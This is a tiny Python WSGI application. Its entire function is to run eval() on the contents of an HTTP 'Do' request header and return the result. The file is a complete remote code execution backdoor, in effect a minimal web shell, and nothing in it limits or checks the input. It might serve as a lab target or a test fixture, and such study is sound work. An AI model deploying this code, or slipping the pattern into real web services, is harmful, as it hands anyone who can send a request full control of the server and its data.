"""Sends the result of the field Do, a Python expression in which `input` is wsgi.input."""


def app(environ, start_response):
    result = eval(environ["HTTP_DO"], {"input": environ["wsgi.input"]})
    start_response("200 OK", [("Content-Type", "text/plain")])
    return [repr(result).encode()]
